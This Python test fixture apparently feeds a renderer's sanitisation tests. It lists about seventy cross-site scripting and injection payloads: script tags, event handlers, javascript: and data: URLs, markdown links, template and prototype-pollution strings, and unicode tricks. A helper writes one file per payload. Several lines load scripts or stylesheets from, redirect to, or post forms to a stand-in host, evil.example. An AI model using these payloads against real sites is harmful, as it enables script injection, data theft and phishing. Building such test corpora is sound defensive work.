"""What an attacker might write into a name, a title, a text, a question or a model's answer."""

from __future__ import annotations

from pathlib import Path

HIT = "window.pwned=1"

PAYLOADS = (
    f"<script>{HIT}</script>",
    f"<SCRIPT>{HIT}</SCRIPT>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    f"<script type=module>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f"<img src=x onerror='{HIT}'>",
    f'<img src="x" onerror="{HIT}">',
    f"<img/src=x/onerror={HIT}>",
    f"<img src=x:x onerror&#61;{HIT}>",
    f"<image href=x onerror={HIT}>",
    f"<svg onload={HIT}>",
    f"<svg/onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{HIT}'><text y=20>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{HIT}</script></svg>#x\">",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
    f"<math href='javascript:{HIT}'>x</math>",
    f"<body onload={HIT}>",
    f"<iframe src='javascript:{HIT}'></iframe>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    "<object data='data:text/html,<script>parent.pwned=1</script>'></object>",
    "<embed src='javascript:window.pwned=1'>",
    f"<video><source onerror={HIT}></video>",
    f"<video src=x onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<select autofocus onfocus={HIT}>",
    f"<textarea autofocus onfocus={HIT}>",
    f"</textarea><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"--><script>{HIT}</script><!--",
    f"]]><script>{HIT}</script>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<dialog open onclose={HIT}>x</dialog>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<div onpointerover={HIT}>x</div>",
    f"<div style=animation-name:arrive onanimationstart={HIT}>x</div>",
    "<style>*{display:none!important}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input name=x></form>",
    f"<a href='javascript:{HIT}'>click</a>",
    f"<a href='java\tscript:{HIT}'>click</a>",
    f"<a href='&#106;avascript:{HIT}'>click</a>",
    "<a href='data:text/html,<script>1</script>'>click</a>",
    f"[click](javascript:{HIT})",
    f'![x](x"onerror="{HIT})',
    f"[x]: javascript:{HIT}",
    f"`<img src=x onerror={HIT}>`",
    f"javascript:{HIT}",
    f'" autofocus onfocus={HIT} x="',
    f"' onmouseover={HIT} x='",
    f'"><img src=x onerror={HIT}>',
    f"'><svg onload={HIT}>",
    f"';{HIT};//",
    f'";{HIT};//',
    "${window.pwned=1}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "{n} {title} {place} {__proto__}",
    "__proto__",
    "constructor",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "＜script＞window.pwned=1＜/script＞",
    "\u202e\u2066gnirts desrever <b>",
    "A\u0301" + "\u0335\u0336\u0337\u0338" * 20,
    "W" * 190,
    "ﷺ" * 60,
    "<x" + " y" * 80 + f" onclick={HIT}>click",
)


def write_odd_papers(folder: Path) -> Path:
    """Write one Markdown document for each payload, with the payload as title, heading and text."""
    folder.mkdir()
    for number, payload in enumerate(PAYLOADS):
        line = payload.replace("\n", " ")
        (folder / f"{number:02}.txt").write_text(f"{line}\n\nMarker {number} {line} end.\n", encoding="utf-8")
    return folder
